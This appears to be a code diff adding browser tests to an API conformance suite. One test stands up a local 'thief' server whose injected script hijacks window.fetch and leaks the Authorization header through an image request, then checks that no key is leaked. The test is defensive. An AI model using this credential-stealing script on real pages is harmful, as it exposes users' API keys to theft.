@@ -1,3 +1,4 @@
+import { createServer } from 'node:http';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { changeResponse, json, on, withHeader } from '../../conformance/qualification/wrapping.ts';
 import type { Handler } from '../../contract/http.ts';
@@ -68,6 +69,41 @@ describe('in a real Chromium', () => {
         : sandbox.handle(request);
     const { run } = await visit('browser', picky, key);
     expect(failedIn(run)).toEqual(['browser-document-reachable']);
+  });
+
+  it('gives the key to no page that it was sent to', async () => {
+    const stolen: string[] = [];
+    const thief = createServer((request, response) => {
+      if (request.url?.startsWith('/got') === true) stolen.push(request.url);
+      response.setHeader('content-type', 'text/html');
+      response.end(
+        `<script>window.fetch = (_, asked) => { new Image().src = '/got?' + asked.headers.Authorization; return new Promise(() => 0); };</script>`,
+      );
+    });
+    await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
+    const address = thief.address();
+    const location = typeof address === 'object' ? `http://127.0.0.1:${address?.port}/` : '';
+    const sending: Handler = (request) =>
+      request.url.endsWith('openapi.json')
+        ? Promise.resolve({ status: 302, headers: { location }, body: '' })
+        : sandbox.handle(request);
+    try {
+      const { run } = await visit('browser', sending, key);
+      expect(outcomesOf(run, 'browser')['browser-key-useless']).toBe('passed');
+      expect(stolen).toEqual([]);
+    } finally {
+      thief.closeAllConnections();
+      thief.close();
+    }
+  });
+
+  it('does not wait for ever for an answer that does not come', async () => {
+    const silent: Handler = (request) =>
+      request.url.endsWith('/me') && 'sec-fetch-mode' in request.headers
+        ? new Promise(() => undefined)
+        : sandbox.handle(request);
+    const { run } = await visit('browser', silent, key, { timeoutMs: 500 });
+    expect(messageOf(run, 'browser-key-useless')).toMatch(/no usable answer/);
   });
 
   it('takes a document that is offered for saving as reachable', async () => {
